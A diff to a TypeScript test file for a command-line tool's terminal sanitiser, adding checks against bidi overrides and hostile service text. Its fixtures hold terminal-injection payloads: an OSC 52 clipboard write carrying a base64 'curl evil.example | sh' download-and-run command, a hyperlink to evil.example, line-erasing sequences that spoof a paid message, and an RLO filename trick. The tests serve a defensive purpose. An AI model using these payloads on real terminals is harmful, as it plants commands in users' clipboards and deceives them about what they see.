@@ -13,13 +13,20 @@ import type { BatchProgress } from '../../src/model';
 const OSC52 = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07';
 const HOSTILE_URL = `https://pay.example/top-up${OSC52}\x1b[2K\rPAID IN FULL\x9b31m\x7f\x00\x1b]8;;https://evil.example\x1b\\`;
 
-/** No ESC, no BEL, no CR or LF, no DEL, nothing of C0 or C1. */
+/** No ESC, no BEL, no CR or LF, no DEL, nothing of C0 or C1, no bidi override (issue 44 point 3). */
 function expectInert(s: string): void {
   // eslint-disable-next-line no-control-regex
-  expect(s).not.toMatch(/[\x00-\x1f\x7f-\x9f]/);
+  expect(s).not.toMatch(/[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
 }
 
-const hold = vi.hoisted((): { progress: unknown } => ({ progress: undefined }));
+/** A bidi override: what follows it reads right to left (`gnp.exe` shows as `exe.png`). */
+const RLO = '\u202e';
+
+const hold = vi.hoisted((): { progress: unknown; schedule: unknown; runs: unknown } => ({
+  progress: undefined,
+  schedule: undefined,
+  runs: undefined,
+}));
 type WorkerModule = typeof Worker;
 // The test process has its Temporal runtime already; the command must not install another.
 vi.mock('@temporalio/worker', async (importOriginal) => {
@@ -33,6 +40,14 @@ vi.mock('../../src/cli/client', () => ({
 vi.mock('../../src/cli/commands/batch-control', async (importOriginal) => ({
   ...(await importOriginal<object>()),
   batchStatus: () => Promise.resolve(hold.progress),
+}));
+vi.mock('../../src/cli/schedule/manage', async (importOriginal) => ({
+  ...(await importOriginal<object>()),
+  describeSchedule: () => Promise.resolve(hold.schedule),
+}));
+vi.mock('../../src/cli/schedule-runs', async (importOriginal) => ({
+  ...(await importOriginal<object>()),
+  scheduleRuns: () => Promise.resolve(hold.runs),
 }));
 
 function progress(waiting: BatchProgress['waiting']): BatchProgress {
@@ -107,5 +122,32 @@ describe('service text on the terminal (issue #16 point 8)', () => {
     expect(lines).toHaveLength(2);
     expect(lines[1]).toContain('then: imagebatch resume b1');
     for (const line of lines) expectInert(line);
+  });
+
+  it('bidi overrides and isolates go: from terminalText and from the progress line', () => {
+    expect(terminalText(`a${RLO}b\u202a\u202b\u202c\u202dc\u2066\u2067\u2068\u2069d`)).toBe('abcd');
+    expectInert(progressLine(progress(stop(`https://pay.example/${RLO}gnp.exe`)), 2));
+  });
+
+  it("imagebatch schedule describe prints a run's reason from the service inert", async () => {
+    const timing = { when: 'every 1 h', timezone: 'UTC', catchupWindowMs: 60_000, jitterMs: 0 };
+    hold.schedule = { scheduleId: 's1', paused: true, nextRuns: [], recentRuns: [], timing, asks: { eachRun: 'all' } };
+    const run = { runId: 'r1', outcome: 'failed', rows: 1, succeeded: 0, failed: 1, notRun: 0 };
+    const reason = `402 ${OSC52}\x1b]8;;https://evil.example\x1b\\top up\x1b]8;;\x1b\\\x1b[1A\x1b[2K ${RLO}gnp.exe`;
+    const times = { startedAt: '2026-01-01T00:00:00Z', endedAt: '2026-01-01T00:01:00Z' };
+    hold.runs = {
+      index: '/runs.jsonl',
+      runs: [{ ...run, ...times, reason }],
+      skipped: { overlap: 0, missedCatchupWindow: 0 },
+    };
+    const out: string[] = [];
+    vi.spyOn(process.stdout, 'write').mockImplementation((chunk) => (out.push(String(chunk)), true));
+    vi.spyOn(process.stderr, 'write').mockImplementation((chunk) => (out.push(String(chunk)), true));
+    const code = await main(['node', 'imagebatch', 'schedule', 'describe', 's1']);
+    vi.restoreAllMocks();
+    expect(code).toBe(0);
+    const printed = out.join('');
+    expect(printed).toContain('(402 top up gnp.exe)');
+    for (const line of printed.replace(/\n$/, '').split('\n')) expectInert(line);
   });
 });
